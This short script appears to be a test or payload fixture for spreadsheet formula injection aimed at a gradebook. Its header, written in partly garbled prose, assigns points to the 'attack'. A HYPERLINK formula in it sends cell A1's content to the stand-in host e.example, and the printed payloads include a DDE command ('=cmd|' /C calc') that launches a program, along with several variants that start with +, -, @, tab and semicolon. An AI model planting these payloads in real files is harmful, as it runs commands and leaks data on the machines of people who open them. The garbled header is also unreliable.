# /// attack
# tries = "is called what a spreadsheet calculates, and prints the like, to run in the gradebook of whoever opens it"
# held = "text in every cell of the table"
# exit = ["completed"]
# points = 5
# name = "=HYPERLINK(\"https://e.example/?\"&A1;\"click\")"
# says = ["cmd|"]
# ///
# %%
print("=cmd|' /C calc'!A0\n+1+1\n-2+3\n@SUM(1;1)\n\t=1+1\n;=1+1,=2+2\r=3")
